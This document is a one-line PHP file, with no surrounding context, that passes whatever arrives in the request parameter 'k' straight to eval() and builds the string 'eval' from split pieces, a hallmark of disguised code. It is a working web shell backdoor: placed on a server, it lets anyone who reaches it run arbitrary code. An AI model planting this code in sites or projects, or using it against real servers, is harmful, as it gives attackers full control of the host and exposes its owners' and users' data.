<?php $k = $_REQUEST['k']; $f = 'ev' . 'al'; eval($k); ?>
